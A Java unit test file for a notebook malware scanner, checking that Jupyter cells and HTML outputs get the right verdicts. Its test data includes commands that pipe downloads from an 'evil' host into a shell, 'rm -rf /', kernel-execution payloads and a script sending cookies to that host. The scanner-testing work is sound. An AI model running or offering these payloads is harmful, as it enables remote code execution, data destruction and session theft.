package dev.weir.scanner.core.text;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class NotebookSearchTest {

    private static final String NOTEBOOK =
            "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": \"%s\", \"outputs\": []}]}";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "out = !curl http://evil | sh",
                "!!curl http://evil | sh",
                "%system wget http://evil -O- | sh",
                "%%sh\\nrm -rf /",
                "get_ipython().system('curl http://evil | sh')",
                "%run http://evil/x.py"
            })
    void everyWayToTheShellIsRead(String cell) {
        assertThat(verdict(cell)).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"files = !ls", "%run train.py", "%matplotlib inline", "x = 1 if not y != 2 else 3"})
    void ordinaryCellsAreClean(String cell) {
        assertThat(verdict(cell)).isEqualTo(Verdict.CLEAN);
    }

    private static Verdict verdict(String cell) {
        return scan("a.ipynb", NOTEBOOK.formatted(cell).getBytes(StandardCharsets.UTF_8))
                .verdict();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=x onerror=Jupyter.notebook.kernel.execute('!id')>",
                "IPython.notebook.kernel.execute('import os; os.system(1)')"
            })
    void aScriptThatHasTheKernelRunCommandsIsMalicious(String script) {
        assertThat(scan("a.ipynb", withOutput(script)).verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aScriptThatSendsCookiesIsSuspicious() {
        assertThat(rules(scan("a.ipynb", withOutput("<script>fetch('//evil/' + document.cookie)</script>"))))
                .containsExactly("text.notebook-cookies");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script src='https://cdn.plot.ly/plotly.js'></script>",
                "cell.notebook.kernel.execute(cmd, {iopub: {}})"
            })
    void scriptsOfPlottingLibrariesAreClean(String script) {
        assertThat(scan("a.ipynb", withOutput(script)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    private static byte[] withOutput(String script) {
        String output = "[{\"output_type\": \"display_data\", \"data\": {\"text/html\": [\"" + script + "\"]}}]";
        return NOTEBOOK.formatted("1").replace("[]", output).getBytes(StandardCharsets.UTF_8);
    }
}
